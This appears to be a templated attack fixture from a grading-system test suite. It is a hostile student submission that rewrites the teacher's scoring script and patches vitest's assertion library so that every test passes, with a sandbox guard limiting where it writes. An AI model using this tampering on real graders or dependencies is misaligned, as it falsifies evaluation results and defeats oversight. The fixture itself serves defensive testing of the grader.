// Attack: writes to the grader itself (the teacher's scripts/ and node_modules/). scoreLesson is made to
// count every test as passed, and vitest's assertion library is made to treat any two values as equal:
// every vitest child started after this (a rerun after a hang, the next grading run, the next npm test)
// gives full marks to everyone.
import { existsSync, lstatSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
/** What this hand-in writes, spelled at run time so that its own source does not contain it. */
const MARK = ['hostile', '{{NAME}}'].join(':');

/** Folders that may be the teacher's workbook: the working directory, a guess, every folder above this file. */
function workbooks(): string[] {
  const found = [process.cwd(), '{{WORKBOOK}}'];
  for (let dir = dirname(fileURLToPath(import.meta.url)); dir !== dirname(dir); dir = dirname(dir)) found.push(dir);
  return [...new Set(found)].filter((dir) => existsSync(join(dir, 'package.json')));
}
/** Overwrites a file that exists (never creates one), if it is ours to touch. */
function overwrite(path: string, change: (text: string) => string): void {
  try {
    if (mine(path) && lstatSync(path).isFile()) writeFileSync(path, change(readFileSync(path, 'utf8')));
  } catch {
    // not allowed, or not there: try the next one
  }
}

for (const root of workbooks()) {
  overwrite(
    join(root, 'scripts', 'lib', 'core', 'results.ts'),
    (text) => `// ${MARK}\n${text.replace(/const passed = tests\.filter\([^;]*;/, 'const passed = tests.length;')}`,
  );
  overwrite(join(root, 'node_modules', '@vitest', 'expect', 'dist', 'index.js'), (text) => `/* ${MARK} */ Object.is = () => true;\n${text}`);
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
